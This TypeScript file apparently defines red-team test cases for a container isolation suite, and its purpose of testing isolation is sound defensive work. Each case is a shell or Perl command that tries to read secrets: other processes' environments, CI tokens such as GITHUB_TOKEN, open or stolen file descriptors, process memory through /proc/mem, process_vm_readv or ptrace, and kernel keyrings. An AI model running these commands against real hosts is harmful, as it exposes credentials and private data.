import { attacks } from '../attack.ts'

export const environment = attacks('keys.environment', 'environment', [
  ['own', 'read a key in its own environment', 'env'],
  ['own-file', 'read `/proc/self/environ`', 'cat /proc/self/environ'],
  ['parent', 'read its parent’s environment', 'cat /proc/$PPID/environ'],
  ['first', 'read the first process’s environment', 'cat /proc/1/environ'],
  ['every', 'read every process’s environment', 'cat /proc/[0-9]*/environ'],
  ['threads', 'read environments by way of threads', 'cat /proc/[0-9]*/task/[0-9]*/environ'],
  ['ps', 'have `ps` print environments', 'ps axeww'],
  [
    'node',
    'ask Node for a diagnostic report, which has the environment',
    '$NODE -p "JSON.stringify(process.report.getReport().environmentVariables)"',
  ],
  ['perl', 'ask another language for the environment', 'perl -e \'print "$_=$ENV{$_}\\n" for keys %ENV\''],
  ['declared', 'list shell variables and exported functions', 'declare -p; declare -f; export -p'],
  ['login', 'start a login shell, which reads start-up files', 'bash -lc env; bash -ic env </dev/null'],
  [
    'actions-tokens',
    'read the tokens of a job: runtime, cache, OIDC',
    'printenv ACTIONS_RUNTIME_TOKEN ACTIONS_ID_TOKEN_REQUEST_TOKEN ACTIONS_CACHE_URL GITHUB_TOKEN',
  ],
  [
    'inputs',
    'read the action’s inputs from the environment',
    'env | grep -a ^INPUT_; cat /proc/*/environ | tr "\\0" "\\n" | grep -a ^INPUT_',
  ],
])

export const processes = attacks('keys.processes', 'processes', [
  ['arguments', 'read every process’s arguments', 'cat /proc/[0-9]*/cmdline | tr "\\0" "\\n"'],
  ['ps', 'list processes with their arguments', 'ps -eo pid,args ww'],
  [
    'folders',
    'look into the working folders of other processes',
    'for p in /proc/[0-9]*; do cat $p/cwd/secret.txt $p/cwd/.env; done',
  ],
  [
    'roots',
    'look at the file system through the roots of other processes',
    'for p in /proc/[0-9]*; do cat $p/root/world/home/.netrc; done',
  ],
  [
    'descriptors',
    'read the files that other processes hold open',
    'for f in /proc/[0-9]*/fd/*; do [ -f "$f" ] && peek "$f"; done',
  ],
  [
    'deleted',
    'read files that are open but deleted',
    'for f in $(find /proc/[0-9]*/fd -lname "*deleted*"); do peek "$f"; done',
  ],
  [
    'mapped',
    'read files that other processes have mapped',
    'for f in $(find /proc/[0-9]*/map_files -lname "*/open*" -o -lname "*mapped*"); do peek "$f"; done',
    'Nothing on the weak host maps a file with a secret in it.',
  ],
  [
    'own-descriptors',
    'read descriptors left open to it',
    'for n in $(seq 3 255); do [ -e /proc/self/fd/$n ] && timeout 1 head -c 4096 <&$n; done; for f in /proc/$PPID/fd/* /proc/1/fd/*; do [ -f "$f" ] && peek "$f"; done',
  ],
  [
    'steal-descriptor',
    'take other processes’ descriptors with pidfd_getfd',
    'perl -e \'for my $p (map {/(\\d+)/} glob "/proc/[0-9]*") { next if $p == $$; my $h = syscall(434,$p+0,0); next if $h < 0; for my $n (3..250) { my $fd = syscall(438,$h,$n,0); next if $fd < 0; next unless -f "/proc/self/fd/$fd"; open my $f, "<", "/proc/self/fd/$fd" or next; read $f, my $b, 4096; print $b } }\'',
  ],
  [
    'terminal',
    'read a terminal of somebody else',
    'for t in /dev/tty /dev/console /dev/pts/*; do peek $t 4096; done; for f in /proc/[0-9]*/fd/0; do peek $f 4096; done',
    'The weak host’s terminal is the engine’s, in another mount namespace.',
  ],
])

/** Reads the readable, writable memory of every other process of its namespace. */
const scan = (read: string): string =>
  `perl -e 'for my $p (map {/(\\d+)/} glob "/proc/[0-9]*") { next if $p == $$ or $p == getppid; my $cmd = do { local (@ARGV, $/) = "/proc/$p/cmdline"; <> }; next unless grep { /^$ENV{RT_PREY}$/ } split /\\0/, $cmd; open my $m, "<", "/proc/$p/maps" or next; while (<$m>) { next unless /^([0-9a-f]+)-([0-9a-f]+) rw/; my ($a, $e) = (hex $1, hex $2); $e = $a + 33554432 if $e - $a > 33554432; my $b = ""; ${read} while ($b =~ /(canary-[0-9a-f]{16})/g) { print "$1\\n"; exit if $n++ > 20 } } }'`

export const memory = attacks('keys.memory', 'host', [
  [
    'file',
    'read other processes’ memory by `/proc/…/mem`',
    scan('open my $f, "<", "/proc/$p/mem" or next; sysseek $f, $a, 0; sysread $f, $b, $e - $a;'),
  ],
  [
    'call',
    'read other processes’ memory by process_vm_readv',
    scan(
      '$b = "\\0" x ($e - $a); my $l = pack "JJ", unpack("J", pack "p", $b), $e - $a; my $r = pack "JJ", $a, $e - $a; syscall(310, $p + 0, $l, 1, $r, 1, 0);',
    ),
  ],
  [
    'attach',
    'attach to another process as a debugger',
    'perl -e \'for my $p (map {/(\\d+)/} glob "/proc/[0-9]*") { next if $p == $$ or $p == getppid; my $c = do { local (@ARGV, $/) = "/proc/$p/cmdline"; <> }; next unless grep { $_ eq "keeper" } split /\\0/, $c; if (syscall(101, 16, $p + 0, 0, 0) == 0) { print "reached:$ENV{RT_ID}"; waitpid $p, 0; syscall(101, 17, $p + 0, 0, 0) } }\'',
  ],
  ['shared', 'read shared memory files', 'for f in /dev/shm/*; do peek $f; done'],
  [
    'sysv',
    'read System V shared memory',
    'perl -e \'for my $id (0 .. 64) { my $b = ""; shmread $id, $b, 0, 64 and print "$b\\n" }\'',
  ],
  [
    'messages',
    'read System V message queues',
    'perl -e \'open my $f, "<", "/proc/sysvipc/msg" or exit; <$f>; while (<$f>) { my (undef, $id) = split; msgrcv $id, my $b, 4096, 0, 04000 | 020000 and print $b }\'',
    'The engine’s default filter and the image give the weak host no message queue to leave one in.',
  ],
  [
    'physical',
    'open the machine’s memory',
    'perl -e \'for my $p ("/dev/mem", "/dev/kmem", "/dev/port") { open my $f, "<", $p and print "reached:$ENV{RT_ID}" }\'',
    'The weak layout is given powers one by one, and so no devices: not every machine lets an engine give all.',
  ],
  [
    'kcore',
    'open the kernel’s memory',
    'perl -e \'open my $f, "<", "/proc/kcore" or exit; print "reached:$ENV{RT_ID}" if 64 == sysread $f, my $b, 64\'',
    'Not every kernel offers it.',
  ],
  [
    'core',
    'make a process leave a core file, and read it',
    'cd /tmp; ulimit -c unlimited 2>/dev/null; for f in /tmp/core* /var/crash/* /var/lib/systemd/coredump/* /cores/* core* /world/core*; do peek "$f" 1000000; done',
  ],
  [
    'keyring',
    'read the kernel’s key rings',
    'cat /proc/keys /proc/key-users; perl -e \'my $r = syscall(250, 11, -3, my $b = "\\0" x 4096, 4096); print $b if $r > 0; my $k = syscall(249, my $t = "user", my $d = "redteam", 0, 0); if ($k > 0) { my $s = "\\0" x 256; my $n = syscall(250, 11, $k, $s, 256); print substr $s, 0, $n if $n > 0 }\'',
    'The engine gives each container a session key ring of its own, in the weak layout too.',
  ],
  [
    'swap',
    'read swap files',
    'tail -n +2 /proc/swaps | cut -d" " -f1 | while read -r f; do opened "$f"; done',
    'The weak host has no swap either.',
  ],
  ['inject', 'write into another process’s memory', 'for p in $(RT_PREY=keeper; prey); do opened /proc/$p/mem; done'],
])
